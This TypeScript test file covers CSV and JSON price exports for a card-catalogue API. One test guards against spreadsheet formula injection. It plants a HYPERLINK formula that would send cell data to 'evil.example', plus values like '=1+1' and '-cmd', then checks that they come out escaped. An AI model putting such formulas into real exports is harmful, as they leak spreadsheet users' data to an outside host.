import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { EXPORT_FORMATS, exportSet, exportSets } from '#actions/pricing/export-prices.ts'
import { parseCsv } from '../../support/csv.ts'
import { createTestApp, type TestApp } from '../../support/test-app.ts'
import type { Row } from '../../support/test-client.ts'

const SETS = [90011, 90012, 90021, 90022, 90031]

const HEADER = [
  'game',
  'game_name',
  'set_id',
  'set',
  'set_code',
  'card_id',
  'name',
  'number',
  'rarity',
  'marketplace_id',
  'product_type',
  'foil_only',
  'printing',
  'market_price',
  'low_price',
  'median_price',
  'lowest_with_shipping',
  'buylist_price',
  'price_change_24h',
  'price_change_7d',
  'price_change_30d',
  'last_updated_at',
]

let testApp: TestApp

beforeAll(async () => {
  testApp = await createTestApp()
})
afterAll(() => testApp.close())

const textOf = (pieces: Iterable<string>) => [...pieces].join('')

/** The records of a CSV table by the names of its columns. */
function rowsOf(csv: string): Record<string, string>[] {
  const [header = [], ...records] = parseCsv(csv)
  return records.map((record) => {
    expect(record).toHaveLength(header.length)
    return Object.fromEntries(record.map((cell, index) => [header[index] ?? '', cell]))
  })
}

const pricesOf = async (set: number) =>
  (await testApp.client.get<Row[]>(`/v1/sets/${set}/prices`, { as: 'business' })).body.data

const cardsOf = async (set: number) =>
  (await testApp.client.get<Row[]>(`/v1/sets/${set}/cards?per_page=100`, { as: 'business' })).body
    .data

describe('a set as CSV', () => {
  test('is a table with a header and one record per printing, by RFC 4180', async () => {
    for (const set of SETS) {
      const csv = textOf(exportSet(testApp.deps, set, 'csv'))
      expect(parseCsv(csv)[0]).toEqual(HEADER)
      const rows = rowsOf(csv)
      const prices = await pricesOf(set)
      expect(rows).toHaveLength(prices.length)
      for (const [index, price] of prices.entries()) {
        for (const [field, value] of Object.entries(price)) {
          const actual = rows[index]?.[field]
          expect([field, actual]).toEqual([field, value === null ? '' : String(value)])
        }
        expect(rows[index]).toMatchObject({ set_id: String(set) })
      }
    }
  })

  test('has every card of the set, including one without prices', async () => {
    for (const set of SETS) {
      const rows = rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))
      const cards = await cardsOf(set)
      expect([...new Set(rows.map((row) => Number(row.card_id)))]).toEqual(
        cards.map((card) => Number(card.id)),
      )
    }
    const rows = rowsOf(textOf(exportSet(testApp.deps, 90011, 'csv')))
    expect(rows.find((row) => row.card_id === '900082')).toMatchObject({
      name: 'Lantern Season Booster Box Case',
      printing: '',
      market_price: '',
    })
  })

  test('has the game and the set in every record', () => {
    for (const row of rowsOf(textOf(exportSet(testApp.deps, 90021, 'csv')))) {
      expect(row).toMatchObject({
        game: 'vellum-and-thorn',
        game_name: expect.stringContaining('Vellum & Thorn'),
        set_id: '90021',
        set: 'The Ninth Library',
        set_code: 'NLB',
      })
    }
  })

  test('escapes text that a spreadsheet would run, in every column', async () => {
    const own = await createTestApp()
    const evil = '=HYPERLINK("http://evil.example?"&A1)'
    own.catalogDb
      .prepare('UPDATE cards SET name = ?, number = ?, rarity = ? WHERE id = 900201')
      .run(evil, '+1', '-2')
    own.catalogDb
      .prepare("UPDATE sets SET name = ?, abbreviation = '@A1' WHERE id = 90021")
      .run('=1+1')
    own.catalogDb.exec("UPDATE games SET name = '-cmd' WHERE id = 9002")
    const csv = textOf(exportSet(own.deps, 90021, 'csv'))
    const rows = rowsOf(csv)
    expect(rows.find((row) => row.card_id === '900201')).toMatchObject({
      name: `'${evil}`,
      number: "'+1",
      rarity: "'-2",
      set: "'=1+1",
      set_code: "'@A1",
      game_name: "'-cmd",
    })
    const numbers = new Set(['price_change_24h', 'price_change_7d', 'price_change_30d'])
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        if (!numbers.has(column))
          expect([column, /^[=+\-@\t\r\0]/.test(cell)]).toEqual([column, false])
      }
    }
    own.close()
  })
})

describe('a set as JSON', () => {
  test('is the game, the set, and the prices of /v1/sets/{id}/prices', async () => {
    for (const set of SETS) {
      const exported = JSON.parse(textOf(exportSet(testApp.deps, set, 'json')))
      expect(Object.keys(exported)).toEqual(['game', 'set', 'prices'])
      const response = await testApp.client.get(`/v1/sets/${set}`, { as: 'business' })
      expect(exported.set).toEqual(response.body.data)
      expect(exported.game.slug).toBe(exported.set.game_slug)
      expect(exported.prices).toEqual(await pricesOf(set))
      const ids = [...new Set(exported.prices.map((row: Row) => row.card_id))]
      expect(ids).toEqual((await cardsOf(set)).map((card) => card.id))
    }
  })

  test('has the same members in each row, null for a card without a price', async () => {
    const rows: Row[] = SETS.flatMap(
      (set) => JSON.parse(textOf(exportSet(testApp.deps, set, 'json'))).prices,
    )
    const [first = {}] = rows
    for (const row of rows) expect(Object.keys(row).sort()).toEqual(Object.keys(first).sort())
    const unpriced = rows.filter((row) => row.printing === null)
    expect(unpriced.length).toBeGreaterThan(0)
    for (const row of unpriced) {
      const { card_id, name, number, rarity, marketplace_id, product_type, foil_only, ...price } =
        row
      expect([card_id, name, product_type]).not.toContain(null)
      expect(Object.values(price).every((value) => value === null)).toBe(true)
    }
  })
})

describe('several sets', () => {
  test('are one table, or one array, of their single exports', () => {
    const csv = rowsOf(textOf(exportSets(testApp.deps, SETS, 'csv')))
    expect(csv).toEqual(SETS.flatMap((set) => rowsOf(textOf(exportSet(testApp.deps, set, 'csv')))))
    const json = JSON.parse(textOf(exportSets(testApp.deps, SETS, 'json')))
    expect(json).toEqual(
      SETS.map((set) => JSON.parse(textOf(exportSet(testApp.deps, set, 'json')))),
    )
  })

  test('report the progress', () => {
    for (const format of EXPORT_FORMATS) {
      const done: number[] = []
      let rows = 0
      const onSet = (count: number) => done.push(count)
      const onRow = () => void rows++
      const text = textOf(exportSets(testApp.deps, SETS, format, { onSet, onRow }))
      expect(done).toEqual([1, 2, 3, 4, 5])
      const prices =
        format === 'csv'
          ? parseCsv(text).slice(1)
          : JSON.parse(text).flatMap((one: { prices: unknown[] }) => one.prices)
      expect(rows).toBe(prices.length)
    }
  })

  test('that are empty result in an empty table and an empty array', () => {
    expect(parseCsv(textOf(exportSets(testApp.deps, [], 'csv')))).toEqual([HEADER])
    expect(JSON.parse(textOf(exportSets(testApp.deps, [], 'json')))).toEqual([])
  })

  test('without one that is unknown are the others', () => {
    for (const format of EXPORT_FORMATS) {
      const withOut = textOf(exportSets(testApp.deps, [90011, 1, 90012], format))
      const without = textOf(exportSets(testApp.deps, [90011, 90012], format))
      expect(format === 'json' ? JSON.parse(withOut) : withOut).toEqual(
        format === 'json' ? JSON.parse(without) : without,
      )
    }
  })
})
